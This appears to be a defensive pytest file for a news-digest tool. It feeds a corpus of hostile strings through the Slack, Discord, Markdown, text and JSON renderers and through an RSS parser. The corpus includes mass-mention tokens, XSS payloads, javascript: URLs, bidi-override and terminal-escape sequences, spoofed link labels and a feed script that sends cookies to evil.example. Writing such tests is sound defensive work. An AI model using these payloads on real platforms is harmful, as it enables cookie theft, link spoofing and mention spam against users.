"""Chat injection (issue 8): one corpus of hostile strings through the whole pipeline and
every renderer, and HTML in feeds through `parse_feed`.

What "active" means, per target (each check below names the rule it enforces):

* Slack mrkdwn: the only `<…>` sequences are our own `<http(s)://…|label>` links (so no
  `<!channel>`, `<!here>`, `<!everyone>`, `<@U…>`, `<#C…>`, `<!subteam^…>`); no bare
  `@channel/@here/@everyone`; no `](` (a Markdown-style link); a link label that looks like an
  address names the link's own host. `plain_text` objects carry no angle brackets at all.
* Discord: every `<` is followed by a zero-width space (defuses `<@id>`, `<@!id>`, `<@&id>`,
  `<#id>`, emoji and timestamps); no `@everyone`/`@here`; Markdown links only to http(s), and
  never with a label that looks like an address; embed URLs only http(s). The adapter also sends
  with `allowed_mentions.parse == []` (asserted in test_acceptance_discord and
  test_discord_bot), the second lock.
* Markdown: no raw HTML (every `<` is escaped, except our own `](<https://…>)` link targets);
  link targets only http(s); no label that poses as another address.
* Plain text: no terminal control sequences (C0/C1 controls other than newline), no line
  injected by a hostile title (a digest of N stories has exactly N numbered headlines).
* Everywhere a human reads it: no Unicode bidi overrides, embeddings or isolates, which can
  reorder what is displayed ("Trojan source"-style spoofing of names and addresses).
* JSON is data, not markup: it must parse and carry the text faithfully; consumers escape.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any
from urllib.parse import urlsplit

import pytest

from digests import render_discord, render_slack
from digests.ingest import parse_feed
from digests.models import Article, Digest
from digests.pipeline import cluster_batch, make_digest
from digests.render import DigestView, digest_view, render_json, render_markdown, render_text

NOW = datetime(2026, 3, 3, 12, 0, tzinfo=UTC)

HOSTILE = [
    "<!channel>",
    "<!here>",
    "<!everyone>",
    "<!here|here>",
    "<@U123>",
    "<@U123|boss>",
    "<#C123>",
    "<#C123|general>",
    "<!subteam^S1>",
    "<!subteam^S1|@team>",
    "<!date^1392734382^{date}|x>",
    "@channel",
    "@here",
    "@everyone",
    "@EVERYONE",
    "<@123>",
    "<@!123>",
    "<@&456>",
    "<#789>",
    "<:emoji:1>",
    "<t:1700000000:R>",
    "</digest now:1>",
    "[https://bank.example](https://evil.example)",
    "[click here](javascript:alert(1))",
    "[x]( https://evil.example )",
    "<https://evil.example|https://bank.example>",
    "javascript:alert(document.cookie)",
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<iframe src=https://evil.example></iframe>",
    "&lt;!channel&gt;",
    "&amp;lt;@U1&amp;gt;",
    "zero\u200bwidth\u200djoin\u2060er\ufeff",
    "\u202egnp.exe",
    "abc\u202dxyz\u2066iso\u2069\u202a\u202b\u202c",
    "\u200f\u200e",
    "\x1b[2J\x1b]0;owned\x07",
    "\x85next\x9bline",
    "line\n# Fake heading\n2. Fake story",
    "**bold** __under__ ~~strike~~ ||spoiler|| `code` > quote",
    "@\u200beveryone",
]

HOSTILE_URLS = [
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "https://evil.example/<!channel>",
    "https://evil.example/a|<@U123>",
    "https://evil.example/x)[y](https://bank.example",
    "https://evil.example/\u202egnp.exe",
    "vbscript:msgbox(1)",
    "//evil.example/protocol-relative",
]

BIDI = re.compile("[\u202a-\u202e\u2066-\u2069]")
CONTROLS = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]")
ADDRESSY = re.compile(r"://|^\S+\.[a-z]{2,}(/|$)", re.IGNORECASE)


_SYLLABLES = ["ka", "lo", "mi", "ren", "tas", "vu", "zor", "bel", "quin", "dra", "fes", "gol"]


def _word(i: int, salt: int) -> str:
    """An invented word unique to article `i`, so every article is a story of its own."""
    n = i * 7 + salt
    parts = [_SYLLABLES[(n // 12**k + k * salt) % 12] for k in range(3)]
    return "".join(parts).capitalize() + _SYLLABLES[i % 12]


def hostile_articles() -> list[Article]:
    """One article per hostile string, the string in its title, text, source and URL."""
    articles = []
    for i, bad in enumerate(HOSTILE):
        url = HOSTILE_URLS[i % len(HOSTILE_URLS)] if i % 3 else f"https://news{i}.example/{i}"
        town, person, thing = _word(i, 1), _word(i, 5), _word(i, 9)
        articles.append(
            Article(
                id=f"h{i}",
                title=f"{bad} {thing} opens in {town} {bad}",
                text=(
                    f"The {thing} opened in {town} on Monday {bad}, {person} said. "
                    f"{person} said {100 + i} {thing} visitors came to {town} {bad}. "
                    f'"{town} waited {bad} for this {thing}," {person} said.'
                ),
                source=f"{bad} Wire{i}",
                url=url,
                published=NOW,
            )
        )
    # A story with two sources whose labels pose as addresses.
    for j, (label, url) in enumerate(
        [
            ("https://bank.example", "https://evil.example/a"),
            ("bank.example", "https://evil.example/b"),
        ]
    ):
        articles.append(
            Article(
                id=f"spoof{j}",
                title="https://bank.example/login",
                text="Harbour ferry Marta ran aground off Kelso Point on Tuesday with 212 aboard.",
                source=label,
                url=url,
                published=NOW,
            )
        )
    return articles


@pytest.fixture(scope="module")
def digest() -> Digest:
    articles = hostile_articles()
    stories = cluster_batch(articles).stories
    return make_digest(stories, title="Hostile <!channel> digest @everyone", now=NOW, limit=500)


@pytest.fixture(scope="module")
def view(digest: Digest) -> DigestView:
    return digest_view(digest)


def test_every_hostile_string_reaches_the_renderers(digest: Digest) -> None:
    """Guard against a vacuous pass: the corpus survives ingest into headlines and sources."""
    shown = " ".join(
        " ".join([s.headline, *(x.name for x in s.sources), *(f.text for f in s.facts)])
        for s in digest.stories
    )
    missing = [h for h in HOSTILE if h.split()[0][:6] not in shown]
    assert len(missing) <= len(HOSTILE) // 3, missing


# -- Slack ------------------------------------------------------------------------------------

_SLACK_LINK = re.compile(r"<(https?://[^\s|<>]+)\|([^<>]*)>")


def _host(url: str) -> str:
    return (urlsplit(url if "://" in url else "https://" + url).hostname or "").lower()


def _slack_texts(message: dict[str, Any]) -> Iterator[tuple[str, str]]:
    yield "mrkdwn", message["text"]
    for block in message["blocks"]:
        if "text" in block:
            yield block["text"]["type"], block["text"]["text"]
        for element in block.get("elements", ()):
            if "text" in element:
                yield element["text"]["type"], element["text"]["text"]


def assert_slack_inert(message: dict[str, Any]) -> None:
    for kind, text in _slack_texts(message):
        assert not BIDI.search(text), text
        assert not CONTROLS.search(text), text
        if kind == "plain_text":
            assert "<" not in text and ">" not in text, text
            continue
        for label_url, label in ((m.group(1), m.group(2)) for m in _SLACK_LINK.finditer(text)):
            if ADDRESSY.search(label.strip()):
                assert _host(label.strip()) == _host(label_url), (label, label_url)
        rest = _SLACK_LINK.sub("", text)
        assert "<" not in rest and ">" not in rest, text  # no <!…>, <@…>, <#…> survives
        assert not re.search(r"@(channel|here|everyone)", rest, re.IGNORECASE), text
        assert not re.search(r"\]\s*\(", rest), text


def test_slack_digest_is_inert(view: DigestView) -> None:
    messages = render_slack.render_digest_messages(view)
    assert sum(len(m["blocks"]) for m in messages) > 10
    for message in messages:
        assert len(message["blocks"]) <= render_slack.MAX_BLOCKS
        assert_slack_inert(message)


def test_slack_replies_and_updates_are_inert(view: DigestView) -> None:
    from digests.render import UpdateView

    for story in view.stories:
        assert_slack_inert(render_slack.render_reply(f"{story.number}. {story.headline}", story))
        update = UpdateView(story.story_id, story.headline, story.sources, story.facts)
        assert_slack_inert(render_slack.render_update_message(update))
    for bad in HOSTILE:
        assert_slack_inert(render_slack.render_reply(f"No story matches “{bad}”.", None))


# -- Discord ----------------------------------------------------------------------------------

_MD_LINK = re.compile(r"(?<!\\)\[((?:\\.|[^\]\\])*)\]\(([^)]*)\)")


def _discord_texts(message: dict[str, Any]) -> Iterator[str]:
    yield message.get("content", "")
    for embed in message.get("embeds", []):
        yield embed.get("title", "")
        yield embed.get("description", "")
        yield embed.get("footer", {}).get("text", "")
        for field in embed.get("fields", []):
            yield field["name"]
            yield field["value"]
    for row in message.get("components", []):
        for button in row["components"]:
            yield button["label"]


def assert_discord_inert(message: dict[str, Any]) -> None:
    for embed in message.get("embeds", []):
        if "url" in embed:
            assert embed["url"].startswith(("http://", "https://")), embed["url"]
    for text in _discord_texts(message):
        assert not BIDI.search(text), text
        assert not CONTROLS.search(text), text
        assert not re.search(r"<(?!\u200b)", text), text
        assert not re.search(r"@(everyone|here)", text, re.IGNORECASE), text
        for m in _MD_LINK.finditer(text):
            label, target = m.group(1), m.group(2)
            assert target.startswith(("http://", "https://")), target
            plain = re.sub(r"\\(.)", r"\1", label).replace("\u200b", "")
            assert not ADDRESSY.search(plain.strip()), (label, target)


def test_discord_digest_is_inert(view: DigestView) -> None:
    messages = render_discord.render_digest_messages(view)
    for message in messages:
        assert len(message["embeds"]) <= render_discord.EMBEDS_PER_MESSAGE
        total = len(message["content"]) + sum(
            render_discord.embed_length(e) for e in message["embeds"]
        )
        assert total <= render_discord.MESSAGE_TOTAL_MAX
        assert_discord_inert(message)


def test_discord_replies_and_updates_are_inert(view: DigestView) -> None:
    from digests.render import UpdateView

    for story in view.stories:
        reply = f"{story.number}. {story.headline}"
        assert_discord_inert(render_discord.render_reply(reply, story))
        update = UpdateView(story.story_id, story.headline, story.sources, story.facts)
        assert_discord_inert(render_discord.render_update_message(update))
    for bad in HOSTILE:
        assert_discord_inert(render_discord.render_reply(f"No story matches “{bad}”.", None))


# -- Markdown, plain text, JSON -----------------------------------------------------------------

_OUR_MD_TARGET = re.compile(r"\]\(<https?://[^<>\s]*>\)")


def test_markdown_is_inert(view: DigestView) -> None:
    out = render_markdown(view)
    assert not BIDI.search(out)
    assert not CONTROLS.search(out)
    for m in re.finditer(r"(?<!\\)\[((?:\\.|[^\]\\])*)\]\((\S*)\)", out):
        label, target = m.group(1), m.group(2)
        assert target.startswith(("<http://", "<https://")), target
        plain = re.sub(r"\\(.)", r"\1", label)
        if ADDRESSY.search(plain.strip()):
            assert _host(plain.strip()) == _host(target.strip("<>")), (label, target)
    rest = _OUR_MD_TARGET.sub("", out)
    assert not re.search(r"(?<!\\)<", rest), "raw HTML or autolink from article text"
    assert not re.search(r"(?<!\\)\]\(", rest), "a link not made by the renderer"
    headings = [line for line in out.splitlines() if line.startswith("#")]
    assert len(headings) == 1 + len(view.stories), headings  # no injected heading


def test_plain_text_is_inert(view: DigestView) -> None:
    out = render_text(view)
    assert not BIDI.search(out)
    assert not CONTROLS.search(out), "terminal control sequences reach the console"
    numbered = [line for line in out.splitlines() if re.match(r"\d+\. ", line)]
    assert len(numbered) == len(view.stories), numbered  # no line injected by a title


def test_json_parses_and_keeps_the_text(digest: Digest) -> None:
    doc = json.loads(render_json(digest))
    assert len(doc["stories"]) == len(digest.stories)
    titles = {a["title"] for s in doc["stories"] for a in s["articles"]}
    assert titles == {a.title for s in digest.stories for a in s.articles}


# -- HTML in feeds ----------------------------------------------------------------------------

HOSTILE_FEED = b"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/">
<channel><title>Harbour News</title><link>https://harbour.example/</link>
<item>
  <title>Ferry &lt;script&gt;alert(1)&lt;/script&gt; aground</title>
  <link>https://harbour.example/ferry</link>
  <guid>ferry-1</guid>
  <description>Short summary &lt;img src="https://track.example/p.gif" width="1" height="1"&gt;</description>
  <content:encoded><![CDATA[
    <style>.x { color: red } body { display:none }</style>
    <script>document.location='https://evil.example/?c='+document.cookie</script>
    <p onclick="alert(2)">The ferry Marta ran aground off Kelso Point on Tuesday.</p>
    <iframe src="https://evil.example/frame">iframe fallback text</iframe>
    <p>Lifeboats took all 212 passengers ashore <a href="javascript:alert(3)">by noon</a>.</p>
    <img src="https://track.example/pixel.gif" width="1" height="1" onerror="alert(4)">
    <noscript><img src="https://track.example/noscript.gif"></noscript>
    <object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">
    <svg onload="alert(5)"><script>alert(6)</script></svg>
  ]]></content:encoded>
</item>
</channel></rss>
"""


def test_feed_html_is_dropped_to_plain_text() -> None:
    result = parse_feed(HOSTILE_FEED, "https://harbour.example/feed.xml", "harbour")
    [article] = result.articles
    assert "ran aground off Kelso Point" in article.text and "212 passengers" in article.text
    assert "<" not in article.title  # escaped markup in a title stays text, never a tag
    everything = " ".join([article.text, article.summary, article.source])
    for bad in (
        "<script",
        "alert(",
        "document.cookie",
        "<style",
        "color: red",
        "display:none",
        "<iframe",
        "onclick",
        "onerror",
        "onload",
        "<img",
        "pixel.gif",
        "p.gif",
        "track.example",
        "javascript:",
        "<a ",
        "href",
        "<object",
        "<embed",
        "<svg",
    ):
        assert bad not in everything, (bad, everything)
    assert article.url == "https://harbour.example/ferry"
